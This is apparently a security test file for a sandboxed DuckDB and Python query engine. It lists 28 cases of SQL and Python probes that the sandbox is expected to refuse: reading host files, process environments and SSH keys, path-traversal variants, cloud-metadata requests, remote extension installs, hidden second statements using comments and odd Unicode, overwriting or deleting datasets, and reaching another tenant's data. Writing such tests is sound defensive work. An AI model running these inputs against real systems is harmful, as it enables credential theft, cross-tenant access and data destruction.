/** S01–S28: what a statement can try with the engine. */
import {add, attack, type Case, plan, propose, python, query, refused, scenario} from '../case.ts';

const READERS = ['read_text', 'read_blob'];

/** Through Python the engine is another one, without any lock: only the sandbox is left to hold. */
const open = (path: string) => python(`look(lambda: open(${JSON.stringify(path)}, "rb").read())`);

export const SQL: readonly Case[] = [
	attack('S01', 'reads a file of the host as CSV', 'P/D', {
		plan: [...refused("SELECT * FROM read_csv('@FILE@', sep=':', header=false)"), ...plan({table: "read_csv('@FILE@')"})],
		code: open('@FILE@'),
	}),
	attack('S02', 'reads text and bytes of the host, and the environment', 'P/D', {
		canaries: ['file', 'environment'],
		plan: READERS.flatMap((reader) =>
			refused(`SELECT content FROM ${reader}('@FILE@')`, `SELECT content FROM ${reader}('/proc/@PID@/environ')`),
		),
		code: open('/proc/@PID@/environ'),
	}),
	attack('S03', 'sniffs a file of the host (GHSA-w2gf-jxc9-pf2q)', 'P/D', {
		plan: refused("FROM sniff_csv('@FILE@')", "SELECT Columns FROM sniff_csv('@FILE@', sample_size=1)"),
		code: python('import csv\nlook(lambda: list(csv.reader(open("@FILE@"))))'),
	}),
	attack('S04', 'reads the insides of files with every other reader', 'P/D', {
		plan: [
			...['parquet_metadata', 'parquet_schema', 'parquet_kv_metadata', 'parquet_file_metadata', 'read_parquet'].flatMap(
				(reader) => refused(`FROM ${reader}('@OTHERDIR@/secrets.parquet')`),
			),
			...['read_json_objects', 'read_ndjson', 'read_json', 'read_ndjson_objects'].flatMap((reader) =>
				refused(`FROM ${reader}('@JSON@')`),
			),
		],
		code: python('import pyarrow.parquet as pq\nlook(lambda: pq.read_table("@OTHERDIR@/secrets.parquet").to_pylist())'),
		canaries: ['file', 'tenant'],
	}),
	attack('S05', 'lists the files of the host and of scratch', 'P/D', {
		plan: refused("FROM glob('@DIR@/**')", "FROM glob('@SCRATCH@/**')", "SELECT file FROM glob('/*')"),
		code: python('import glob\nfound = glob.glob("@DIR@/*")\nwon(found) if found else tell("nothing")'),
	}),
	attack('S06', 'names a file where a table belongs', 'P/D', {
		plan: [
			...refused("FROM '@FILE@.csv'", 'SELECT * FROM "@FILE@.csv"', "DESCRIBE '@FILE@.csv'"),
			...plan({table: "'@FILE@.csv'"}),
		],
		code: open('@FILE@.csv'),
	}),
	attack('S07', 'writes a path in every way that means the same', 'D', {
		plan: refused(
			"SELECT content FROM read_text('@DATA@/../../../../../../..@FILE@')",
			"SELECT content FROM read_text('/.//@FILE@')",
			"SELECT content FROM read_text('file://@FILE@')",
			"SELECT content FROM read_text('file:/@FILE@')",
			"SELECT content FROM read_text('/proc/self/root@FILE@')",
			"SELECT content FROM read_text('/proc/@PID@/root@FILE@')",
		),
		code: python(
			'for path in ["@DATA@/../../../../../../..@FILE@", "/.//@FILE@", "/proc/self/root@FILE@", "/proc/@PID@/root@FILE@"]:\n  look(lambda: open(path).read())',
		),
	}),
	attack('S08', 'reads a directory whose name begins like an allowed one', 'D', {
		plan: refused("SELECT content FROM read_text('@SIBLING@/secret.csv')", "FROM read_csv('@SIBLING@/*.csv')"),
		code: open('@SIBLING@/secret.csv'),
	}),
	attack('S09', 'hides a file function in every corner of a SELECT (CVE-2026-47735)', 'P/D', {
		plan: refused(
			"SELECT (SELECT content FROM read_text('@FILE@'))",
			"WITH s AS (SELECT content FROM read_text('@FILE@')) FROM s",
			"SELECT l.content FROM (SELECT 1) AS a, LATERAL (SELECT content FROM read_text('@FILE@')) AS l",
			"SELECT 1 WHERE EXISTS (FROM read_text('@FILE@') WHERE content LIKE 'c%')",
			"SELECT 1 ORDER BY (SELECT content FROM read_text('@FILE@'))",
			"SELECT 1 AS x GROUP BY ALL HAVING (SELECT count(*) FROM read_text('@FILE@')) = 1",
			"SELECT 1 QUALIFY row_number() OVER (ORDER BY (SELECT content FROM read_text('@FILE@'))) = 1",
			"SELECT list_transform([1], lambda x: (SELECT content FROM read_text('@FILE@')))",
		),
		code: open('@FILE@'),
	}),
	attack('S10', 'builds the path while the statement runs', 'D', {
		plan: refused(
			"SELECT content FROM read_text('@DIR@' || '/' || 'file')",
			"SELECT content FROM read_text(chr(47) || '@FILE@'[2:])",
			"SET VARIABLE p = '@FILE@'; SELECT content FROM read_text(getvariable('p'))",
			"SELECT content FROM read_text(list_value('@FILE@'))",
			"SELECT r.content FROM (SELECT '@FILE@' AS p) AS f, LATERAL read_text(f.p) AS r",
		),
		code: python('look(lambda: open(chr(47) + "@FILE@"[1:]).read())'),
	}),
	attack('S11', 'hides a reader in a macro or a view', 'P/D', {
		plan: refused(
			"CREATE MACRO leak() AS TABLE SELECT content FROM read_text('@FILE@')",
			"CREATE TEMP VIEW leak AS SELECT content FROM read_text('@FILE@')",
			"CREATE MACRO leak() AS TABLE SELECT content FROM read_text('@FILE@'); FROM leak()",
			"CREATE VIEW leak AS SELECT content FROM read_text('@FILE@'); FROM leak",
		),
		code: python('leak = eval("lambda: open(\\"@FILE@\\").read()")\nlook(leak)'),
	}),
	attack('S12', 'runs text as a statement', 'P/D', {
		plan: refused(
			"FROM query('SELECT content FROM read_text(''@FILE@'')')",
			"FROM query_table('@FILE@.csv')",
			"FROM json_execute_serialized_sql(json_serialize_sql('SELECT content FROM read_text(''@FILE@'')'))",
			"PRAGMA json_execute_serialized_sql('{}')",
			"PREPARE p AS SELECT content FROM read_text('@FILE@'); EXECUTE p",
		),
		code: python('exec("look(lambda: open(\\"@FILE@\\").read())")'),
	}),
	attack('S13', 'overwrites the dataset with COPY', 'P/D', {
		canaries: ['dataset'],
		plan: refused(
			"COPY (SELECT 1 AS x) TO '@DATA@/victim.csv'",
			"COPY (SELECT 1 AS x) TO '@DATA@/sales.parquet' (FORMAT parquet)",
			"COPY sales TO '@DATA@/victim.csv'",
		),
		code: python(
			'go(lambda: open("@DATA@/victim.csv", "w").write("x"))\ngo(lambda: pd.DataFrame({"x": [1]}).to_parquet("@DATA@/sales.parquet"))',
		),
	}),
	attack('S14', 'writes beside the dataset', 'P/D', {
		plan: refused(
			"COPY (SELECT 1 AS x) TO '@WATCH@/s14.csv'",
			"COPY (SELECT 1 AS x) TO '@SCRATCH@/../@WATCH@/s14b.csv'",
			"EXPORT DATABASE '@WATCH@/s14'",
			"COPY (SELECT 1 AS x, 2 AS y) TO '@WATCH@/s14p' (FORMAT csv, PARTITION_BY (x))",
		),
		code: python('go(lambda: open("@WATCH@/s14", "w").write("x"))\ngo(lambda: os.mkdir("@WATCH@/s14d"))'),
	}),
	attack('S15', 'attaches databases', 'P/D', {
		plan: refused(
			"ATTACH '@WATCH@/s15.db' AS a",
			"ATTACH ':memory:' AS a",
			"ATTACH 'host=10.1.2.3' AS a (TYPE postgres)",
			"ATTACH '@PLATFORMDB@' AS a (TYPE sqlite)",
			"ATTACH 'md:x'",
			"SELECT * FROM '@PLATFORMDB@'",
		),
		code: python(
			'import sqlite3\ndef read():\n  found = sqlite3.connect("file:@PLATFORMDB@?mode=ro", uri=True).execute("select name from sqlite_master").fetchall()\n  won(found)\nlook(read)',
		),
	}),
	attack('S16', 'installs and loads extensions', 'P/D', {
		canaries: ['network'],
		plan: refused(
			'INSTALL httpfs',
			'INSTALL h3 FROM community',
			"LOAD '@WATCH@/evil.duckdb_extension'",
			"FORCE INSTALL httpfs FROM 'http://203.0.113.9/x'",
			'LOAD json',
		),
		code: python('import ctypes\ngo(lambda: ctypes.CDLL("@LIBRARY@"), "loaded a library of the host ")'),
	}),
	attack('S17', 'changes settings that protect it', 'P/D', {
		plan: [
			...[
				'SET enable_external_access=true',
				'SET lock_configuration=false',
				'SET SESSION threads=64',
				"SET GLOBAL memory_limit='64GB'",
			].flatMap((text) => refused(text)),
			...refused(
				"SET allowed_directories=['/']",
				'RESET allowed_configs',
				"SET allowed_configs=['threads']",
				'RESET ALL',
				"PRAGMA memory_limit='64GB'",
				'SET autoload_known_extensions=true',
				"SET temp_directory='@WATCH@'",
			),
		],
		code: python('go(lambda: os.setpriority(os.PRIO_PROCESS, 0, -5), "raised its priority ")'),
	}),
	attack('S18', 'moves the home directory and reads below it (#26064)', 'D', {
		plan: refused(
			"SET home_directory='@DIR@'",
			"SELECT content FROM read_text('~/file')",
			"SET home_directory='@DIR@'; SELECT content FROM read_text({'a': '~/file'}::VARIANT.a::VARCHAR)",
			"SELECT content FROM read_text('~/file'::VARIANT::VARCHAR)",
		),
		code: python('os.environ["HOME"] = "@DIR@"\nlook(lambda: open(os.path.expanduser("~/file")).read())'),
	}),
	attack('S19', 'makes the engine log to a file, which aborts it', 'P', {
		plan: refused(
			"CALL enable_logging(storage='file', storage_path='@WATCH@/s19')",
			"CALL enable_logging('QueryLog', storage='file', storage_config={'path': '@WATCH@/s19'})",
		),
		code: python('won("still here") if os.path.isdir("@WATCH@") and not os.system("test -w @WATCH@") else os.abort()'),
	}),
	attack('S20', 'prints frames of its own on standard output', 'P', {
		plan: refused(
			'PRAGMA enable_profiling',
			"CALL enable_logging('QueryLog', storage='stdout')",
			"PRAGMA profiling_output='/dev/stdout'",
			"COPY (SELECT 'x') TO '/dev/stdout'",
		),
		code: [
			...python(
				'import struct\nbody = json.dumps({"type": "done", "totalRows": 666, "truncated": None, "nonFinite": 0}).encode()\nfor fd in (1, 2, 3): look(lambda: os.write(fd, struct.pack(">I", len(body)) + body))',
			),
			...scenario('forgedResult'),
		],
	}),
	attack('S21', 'makes and reads secrets', 'P/D', {
		plan: refused(
			"CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
			'FROM duckdb_secrets(redact=false)',
			'CREATE PERSISTENT SECRET s (TYPE http)',
			"FROM which_secret('s3://x', 's3')",
			'FROM duckdb_secret_types()',
		),
		code: python('look(lambda: open("@SSH@").read())\nlook(lambda: open("@ROOTFILE@").read())'),
	}),
	attack('S22', 'asks the engine about the host', 'P/R', {
		plan: refused(
			'FROM duckdb_settings()',
			'FROM duckdb_extensions()',
			'FROM duckdb_temporary_files()',
			'FROM pragma_database_list()',
			'PRAGMA database_list',
			"SELECT current_setting('temp_directory')",
			'FROM duckdb_databases()',
			'SELECT getenv($$@ENV@$$)',
		),
		code: python(
			'paths = [p for p in ["@ROOT@/src", "@ROOT@/package.json", "@DIR@", "@DATADIR@"] if os.path.exists(p)]\nwon(paths) if paths else tell("none")',
		),
	}),
	attack('S23', 'hides a second statement, or its first word', 'P', {
		plan: refused(
			"SELECT 1; COPY (SELECT 1 AS x) TO '@WATCH@/s23.csv'",
			"SELECT 1;--\nCOPY (SELECT 1 AS x) TO '@WATCH@/s23b.csv'",
			"/*!COPY*/ SELECT 1; /* */ ATTACH ':memory:' AS z",
			"\ufeffCOPY (SELECT 1 AS x) TO '@WATCH@/s23c.csv'",
			"SELECT content FROM read\u200b_text('@FILE@')",
			"ＣＯＰＹ (SELECT 1) TO '@WATCH@/s23d.csv'",
			"SELECT 1\u0000; COPY (SELECT 1 AS x) TO '@WATCH@/s23e.csv'",
			'SELECT 1 /* ; */; SET threads=9',
		),
		code: python(
			'import subprocess\ndef go_on():\n  subprocess.run(["/bin/sh", "-c", "true; echo x > @WATCH@/s23"], check=True)\n  return os.stat("@WATCH@/s23").st_size\ngo(go_on)',
		),
	}),
	attack('S24', 'has a SELECT that the engine turns into a call', 'P', {
		plan: refused(
			'SHOW ALL TABLES',
			'SHOW VARIABLES',
			'FROM pragma_version()',
			'SUMMARIZE "@FILE@.csv"',
			'DESCRIBE duckdb_settings()',
			'FROM (CALL duckdb_settings())',
			'EXPLAIN ANALYZE SELECT 1',
			'SELECT * FROM (SHOW DATABASES)',
			'VALUES (current_setting($$threads$$))',
		),
		code: python('look(lambda: open("/proc/self/cmdline").read())\nlook(lambda: won(os.readlink("/proc/@PID@/exe")))'),
	}),
	attack('S25', 'changes data and catalogue', 'P', {
		canaries: ['dataset'],
		plan: refused(
			'INSERT INTO sales SELECT * FROM sales',
			'UPDATE sales SET amount = 0',
			'DELETE FROM sales',
			'DROP VIEW sales',
			'TRUNCATE sales',
			'CREATE TABLE t AS SELECT 1',
			'CREATE TEMP TABLE t (x INT)',
			'CREATE INDEX i ON sales(id)',
			'ALTER VIEW sales RENAME TO s2',
			'MERGE INTO sales USING sales AS s ON true WHEN MATCHED THEN DELETE',
			'BEGIN',
			'VACUUM',
			'CHECKPOINT',
		),
		code: python(
			'go(lambda: os.unlink("@DATA@/victim.csv"))\ngo(lambda: os.truncate("@DATA@/sales.parquet", 0))\ngo(lambda: os.rename("@DATA@/sales.parquet", "@DATA@/gone"))',
		),
	}),
	attack('S26', 'is a file made to break its reader', 'K/D', {
		plan: [
			...add('lying-footer', 'footer.parquet'),
			...add('many-groups', 'groups.parquet'),
			...add('nested', 'nested.parquet'),
			...add('bad-offsets', 'offsets.parquet'),
		],
		code: python(
			'import io, pyarrow.parquet as pq\nfor n in range(40):\n  data = bytearray(open("@DATA@/sales.parquet", "rb").read())\n  for k in range(1, 9): data[-(9 + (n * 37 + k * 101) % 400)] ^= (n * 31 + k) % 255 + 1\n  look(lambda: len(pq.read_table(io.BytesIO(bytes(data)))))\nwon("all read") if sum("Error" not in s for s in said) == 40 else None',
		),
		text: query('SELECT count(*) FROM sales'),
		toothless: 'a crafted file hurts its reader alone, also where nothing is around it',
	}),
	attack('S27', 'reads addresses with the readers of the engine', 'P/D', {
		canaries: ['network'],
		plan: refused(
			"FROM read_csv('http://169.254.169.254/latest/meta-data/')",
			"FROM read_parquet('s3://bucket/x.parquet')",
			"FROM 'hf://datasets/a/b.csv'",
			"SELECT content FROM read_text('https://203.0.113.9/')",
			"FROM read_json('gcs://bucket/x')",
			"FROM read_csv('az://container/x.csv')",
			"FROM 'http://127.0.0.1:@TCP@/x.csv'",
		),
		code: python(
			'import urllib.request\nlook(lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=2).read())',
		),
	}),
	attack('S28', "reads another's dataset", 'P/D', {
		canaries: ['tenant', 'dataset'],
		plan: [
			...refused(
				'FROM ledger.entries',
				'FROM vault.secrets',
				"FROM read_parquet('@OTHERDIR@/*.parquet')",
				'FROM information_schema.columns',
				'FROM duckdb_columns()',
				'FROM pg_catalog.pg_class',
				'FROM information_schema.tables',
				'FROM sqlite_master',
			),
			...propose('analyst.sql', {dataset_id: 'vault', sql: 'FROM secrets'}),
			...propose('analyst.sql', {dataset_id: '../rival/vault', sql: 'FROM secrets'}),
			...propose('analyst.get_dataset_schema', {dataset_id: 'vault'}),
			...propose('analyst.get_dataset_schema', {dataset_id: 'ledger'}),
			...propose('analyst.sql', {dataset_id: 'ledger', sql: 'FROM entries'}),
		],
		code: python(
			'import glob, pyarrow.parquet as pq\nfor path in ["@OTHERDIR@/secrets.parquet", "@DATADIR@/../../../rival/vault", "@DATA@/../../rival"]:\n  look(lambda: pq.read_table(path).to_pylist())',
		),
	}),
];
